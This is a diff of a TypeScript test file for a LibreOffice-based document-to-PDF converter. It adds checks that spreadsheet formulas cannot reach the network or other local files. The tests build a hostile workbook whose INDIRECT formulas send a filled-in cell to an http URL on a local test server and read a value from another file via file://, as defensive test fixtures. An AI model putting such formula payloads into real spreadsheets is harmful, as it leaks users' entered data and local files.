@@ -1,33 +1,43 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { PDFDocument, PDFDict, PDFHexString, PDFName, PDFString } from 'pdf-lib';
 import { beforeAll, describe, expect, test } from 'vitest';
-import { finishPdf } from '../../../../electron/documents/routes/finish-pdf';
+import { withTitle } from '@shared/forms/pdf/finish-pdf';
 import { findLibreOffice, thisMachine } from '../../../../electron/programs/find-programs';
 import { libreOfficeRoute } from '../../../../electron/documents/routes/libreoffice';
+import { tameWorkbook } from '@shared/forms/excel/tame-formulas';
+import { nodeCodec } from '../../../../electron/storage/node-codec';
 import { runProgram, type ProgramCall, type RunProgram } from '../../../../electron/programs/run-program';
+import { anXlsx, row } from '../../../builders/xlsx';
 import { fukuiTeams } from '../../../support/fukui-sheet-papers';
 import { tritrusApplication, type SamplePaper } from '../../../support/sample-papers';
+import { partsOf } from '../../../support/word-text';
 import { temporaryFolder } from '../../../support/temporary-folder';
 import { needs, pdfFonts, pdfPages, pdfText } from '../../../support/tools';
 
 const paper = { bytes: Uint8Array.of(1, 2, 3), kind: 'docx', title: '様式1-1' } as const;
 const never = new AbortController().signal;
+const tame = (xlsx: Uint8Array) => Promise.resolve(tameWorkbook(xlsx, nodeCodec));
 
 function aLibreOffice(makes = true) {
   const calls: ProgramCall[] = [];
   const settings: string[] = [];
+  const given: string[] = [];
   const run: RunProgram = (call) => {
     calls.push(call);
     const profile = call.args.find((one) => one.startsWith('-env:UserInstallation='))?.split('=')[1] ?? '';
     settings.push(readFileSync(join(fileURLToPath(profile), 'user', 'registrymodifications.xcu'), 'utf8'));
     const file = call.args.at(-1) ?? '';
+    given.push(readFileSync(file, 'latin1'));
     if (makes) writeFileSync(join(dirname(file), 'paper.pdf'), '%PDF');
     return Promise.resolve({ end: { how: 'ended', code: 0 }, output: 'Error: source file could not be loaded\n' });
   };
   const workFolder = join(temporaryFolder(), 'work');
-  return { route: libreOfficeRoute({ command: '/opt/soffice', workFolder, run }), calls, settings, workFolder };
+  const route = libreOfficeRoute({ command: '/opt/soffice', workFolder, run, tame });
+  return { route, calls, settings, given, workFolder };
 }
 
 describe('LibreOffice (a fake one)', () => {
@@ -41,6 +51,16 @@ describe('LibreOffice (a fake one)', () => {
     expect(settings[0]).toMatch(/DisableMacrosExecution"[^>]*><value>true</);
     expect(env?.['TMPDIR']).toContain(workFolder);
     expect(readdirSync(workFolder)).toEqual([]);
+  });
+
+  test('asks nobody on the web, and reads workbooks that ask for no other file', async () => {
+    const { route, settings, given } = aLibreOffice();
+    const reading = anXlsx({ sheets: [{ rows: row(1, '<c r="A1"><f>INDIRECT(B1&amp;"x")</f></c>') }] });
+    await route.pdf({ ...paper, kind: 'xlsx', bytes: reading }, never);
+    expect(settings[0]).toMatch(/ooInetProxyType"[^>]*><value>2</);
+    expect(settings[0]).toMatch(/ooInetHTTPSProxyName"[^>]*><value>127\.0\.0\.1</);
+    const sheet = partsOf(Buffer.from(given[0] ?? '', 'latin1'))['xl/worksheets/sheet1.xml'];
+    expect(new TextDecoder().decode(sheet)).toContain('INDIRECT(SUBSTITUTE(SUBSTITUTE(B1&amp;&quot;x&quot;,');
   });
 
   test('that says it is done without a file has failed, and why is kept', async () => {
@@ -68,7 +88,7 @@ describe.skipIf(!needs('writer', 'calc', 'poppler'))('LibreOffice', () => {
     expect(found?.version).toMatch(/^\d+\.\d+/);
   });
   const installed = (workFolder: string) =>
-    libreOfficeRoute({ command: found?.path ?? '', workFolder, run: runProgram });
+    libreOfficeRoute({ command: found?.path ?? '', workFolder, run: runProgram, tame });
 
   test.each<[string, 'docx' | 'xlsx', () => Promise<SamplePaper>, string, number]>([
     ['Word', 'docx', () => tritrusApplication(4), '利用申請書', 2],
@@ -82,7 +102,7 @@ describe.skipIf(!needs('writer', 'calc', 'poppler'))('LibreOffice', () => {
       const made = await route.pdf({ bytes, kind, title: official.form.title }, never);
       if (!made.ok) throw new Error(made.code);
       const file = join(temporaryFolder(), 'paper.pdf');
-      writeFileSync(file, await finishPdf(made.value, official.form.title));
+      writeFileSync(file, await withTitle(made.value, official.form.title));
       expect(await pdfPages(file)).toBe(pages);
       expect((await pdfText(file)).replace(/\s/g, '')).toContain(words);
       const fonts = await pdfFonts(file);
@@ -97,6 +117,40 @@ describe.skipIf(!needs('writer', 'calc', 'poppler'))('LibreOffice', () => {
     },
     120_000,
   );
+
+  test('neither tells the web what was filled in, nor reads another file of the PC, for a formula that is a text', async () => {
+    const heard: string[] = [];
+    const server = createServer(({ url = '' }, answer) => {
+      heard.push(url);
+      answer.writeHead(404).end();
+    });
+    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+    const { port } = server.address() as AddressInfo;
+    const other = join(temporaryFolder(), 'other.xlsx');
+    writeFileSync(other, anXlsx({ sheets: [{ name: 'a', rows: row(1, '<c r="A1"><v>424242</v></c>') }] }));
+    const text = (cell: string, value: string) => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`;
+    const asking = anXlsx({
+      sheets: [
+        {
+          rows:
+            row(1, text('A1', '石川') + text('B1', `'http://127.0.0.1:${port}/?`) + text('C1', `'#$x.A1`)) +
+            row(2, `<c r="A2"><f>INDIRECT(B1&amp;A1&amp;C1)</f></c>`) +
+            row(3, text('A3', `'file://${other}'#$a.A1`) + '<c r="B3"><f>INDIRECT(A3)</f></c>') +
+            row(4, '<c r="A4"><v>55</v></c><c r="B4"><f>INDIRECT("A"&amp;2+2)*3</f></c>'),
+        },
+      ],
+    });
+    const made = await installed(folder()).pdf({ bytes: asking, kind: 'xlsx', title: 'x' }, never);
+    if (!made.ok) throw new Error(made.code);
+    const file = join(temporaryFolder(), 'paper.pdf');
+    writeFileSync(file, made.value);
+    const words = await pdfText(file);
+    server.close();
+    expect(heard).toEqual([]);
+    expect(words).not.toContain('424242');
+    // An honest one is worked out as before.
+    expect(words).toContain('165');
+  }, 120_000);
 
   test('leaves nothing of a file that it can’t read', async () => {
     const workFolder = folder();
